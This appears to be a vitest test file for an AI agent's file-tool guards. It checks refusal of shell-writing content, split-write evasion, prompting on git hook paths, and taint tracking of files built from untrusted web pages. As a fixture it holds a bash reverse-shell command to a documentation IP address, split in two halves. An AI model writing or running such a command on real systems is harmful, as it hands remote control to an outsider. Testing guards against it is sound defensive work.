import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FileTools } from '../../support/file-tools.js';

const PAGE = 'https://example.org:443/post';
/** In two halves, so that neither is anything yet. */
const SHELL = ['#!/bin/bash\nbash -i >& /dev/', 'tcp/203.0.113.9/4444 0>&1\n'] as const;

let files: FileTools;
beforeEach(async () => {
  files = await FileTools.open();
});
afterEach(() => files.close());

describe('what file tools are about to write (GUARD-8)', () => {
  it('is refused with the reason where it does harm, whatever the path', async () => {
    for (const path of ['a.sh', 'notes/readme.txt', '.git/hooks/pre-commit']) {
      const action = await files.resolve('write_file', { path, content: SHELL.join('') });
      expect(action.forbidden, path).toMatch(/shell/);
    }
  });

  it('is judged whole: an edit that completes what was begun before is refused', async () => {
    files.put('a.sh', `${SHELL[0]}HERE`);
    const begun = await files.resolve('write_file', { path: 'b.sh', content: `${SHELL[0]}HERE` });
    expect(begun.forbidden).toBeNull();
    const completed = await files.resolve('edit_file', { path: 'a.sh', old_text: 'HERE', new_text: SHELL[1] });
    expect(completed.forbidden).toMatch(/shell/);
  });

  it('asks about a sensitive path each time anew, with the reason on the card', async () => {
    const action = await files.resolve('write_file', { path: '.git/hooks/pre-commit', content: 'npm test\n' });
    expect(action).toMatchObject({ forbidden: null, grantPattern: null });
    expect(action.card.facts.at(-1)).toMatch(/^\.git\/hooks\/pre-commit /);
    expect((await files.resolve('write_file', { path: 'a.txt', content: 'npm test\n' })).grantPattern).not.toBeNull();
  });
});

describe('files that were made from untrusted content (GUARD-4, GUARD-11)', () => {
  beforeEach(() => {
    files.put('made.md', 'needle in a page\n');
    files.put('own.md', 'needle of my own\n');
    files.origins.set('made.md', [PAGE]);
  });
  const untrusted = async (tool: string, input: object) => (await files.run(tool, input)).taint.untrusted;

  it('are untrusted when they are read, found or listed, and the others are not', async () => {
    expect(await untrusted('read_file', { path: 'made.md' })).toEqual([PAGE]);
    expect(await untrusted('search_files', { query: 'needle' })).toEqual([PAGE]);
    expect(await untrusted('list_files', {})).toEqual([PAGE]);
    expect(await untrusted('read_file', { path: 'own.md' })).toEqual([]);
    expect(await untrusted('search_files', { query: 'my own' })).toEqual([]);
    expect(await untrusted('search_files', { query: 'nowhere' })).toEqual([]);
    expect(await untrusted('list_files', { glob: 'own*' })).toEqual([]);
  });

  it('stay so when they are edited, and no standing yes sends them where others read', async () => {
    const edit = { path: 'made.md', old_text: 'needle', new_text: 'pin' };
    expect(await files.resolve('edit_file', edit)).toMatchObject({ makes: 'part', from: [PAGE] });
    expect(await files.resolve('write_file', { path: 'made.md', content: 'x' })).toMatchObject({ makes: 'whole' });
    const sent = await files.resolve('send_file', { path: 'made.md' }, { direct: false });
    expect(sent).toMatchObject({ grantPattern: null, outward: true });
    expect(sent.card.facts).toContain(`made after reading ${PAGE} (untrusted)`);
  });
});
